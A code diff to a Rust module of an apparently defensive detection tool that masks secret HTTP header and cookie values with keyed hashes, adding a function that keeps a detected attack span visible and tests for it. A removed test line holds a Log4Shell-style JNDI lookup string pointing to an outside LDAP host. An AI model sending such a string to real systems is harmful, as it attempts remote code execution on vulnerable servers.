@@ -2,9 +2,9 @@
 
 use std::borrow::Cow;
 use std::hash::Hasher;
+use std::ops::Range;
 
 use palisade_detect::HashSeed;
-use palisade_detect::detectors::payload;
 use siphasher::sip::SipHasher13;
 
 /// Replaces values by keyed hashes: equal values stay equal, and nobody without the key can try values out.
@@ -102,8 +102,7 @@ impl Masks {
 
     /// The value of header `name` as it may be written down: itself, or its mask where it is a secret.
     pub(super) fn header<'a>(&self, name: &str, value: &'a str) -> Cow<'a, str> {
-        // Most headers are no secret, and most secrets no attack.
-        if value.is_empty() || !is_secret(name) || payload::is_in_header(name, value) {
+        if value.is_empty() || !is_secret(name) {
             return Cow::Borrowed(value);
         }
         if name.eq_ignore_ascii_case("cookie") {
@@ -118,6 +117,23 @@ impl Masks {
             }
             _ => Cow::Owned(self.token(Space::Header, value.as_bytes())),
         }
+    }
+
+    /// The value of a secret header of which `part` stays, the rest masked. `None` where `part` divides a character.
+    pub(super) fn header_around(&self, name: &str, value: &str, part: &Range<usize>) -> Option<String> {
+        let (before, kept, after) =
+            (value.get(..part.start)?, value.get(part.clone())?, value.get(part.end..)?);
+        if !name.eq_ignore_ascii_case("cookie") {
+            let mask = |text: &str| match text {
+                "" => String::new(),
+                text => self.token(Space::Header, text.as_bytes()),
+            };
+            return Some(mask(before) + kept + &mask(after));
+        }
+        // What follows the part within its own pair is no name, whatever it looks like.
+        let (own, others) = after.split_at(after.find(';').unwrap_or(after.len()));
+        let own = if own.is_empty() { String::new() } else { self.token(Space::Cookie, own.as_bytes()) };
+        Some(self.cookies(before) + kept + &own + &self.cookies(others))
     }
 
     /// Names stay, values go: `a=1; b=2`.
@@ -149,8 +165,8 @@ pub(super) fn word(hash: u64) -> String {
     format!("v{:015x}", hash >> 4)
 }
 
-/// True for headers whose value is never written down.
-fn is_secret(name: &str) -> bool {
+/// True for headers whose value is never written down, but for the part of it that is an attack.
+pub(super) fn is_secret(name: &str) -> bool {
     if is_everyday(name) {
         return false;
     }
@@ -241,8 +257,25 @@ mod tests {
         assert_eq!(masked("X-Api-Key", "a"), masked("x-api-key", "a"));
         assert_ne!(masked("X-Api-Key", "a"), masked("X-Api-Key", "b"));
         assert_eq!(masked("Accept", "*/*"), "*/*");
-        let attack = "${jndi:ldap://198.51.100.7/a}";
-        assert_eq!(masked("X-Api-Key", attack), attack, "an attack is evidence");
+    }
+
+    #[test]
+    fn around_the_part_that_stays_everything_is_masked() {
+        let check = |name: &str, value: &str, expect: &str| {
+            let start = value.find("EVIL").unwrap();
+            let mut shape = masks().header_around(name, value, &(start..start + 4)).unwrap();
+            while let Some(at) = shape.find('v') {
+                shape.replace_range(at..at + 16, "#");
+            }
+            assert_eq!(shape, expect, "{value}");
+        };
+        check("Cookie", "sid=0123; a=xEVILb=y; c=2", "sid=#; a=#EVIL#; c=#");
+        check("Cookie", "EVIL", "EVIL");
+        check("cookie", "a=EVIL;x", "a=EVIL; #");
+        check("Cookie", "0123EVIL", "#EVIL");
+        check("X-Api-Key", "0123 EVIL 4567", "#EVIL#");
+        check("X-Api-Key", "EVIL", "EVIL");
+        assert_eq!(masks().header_around("X-Api-Key", "é", &(1..2)), None);
     }
 
     #[test]
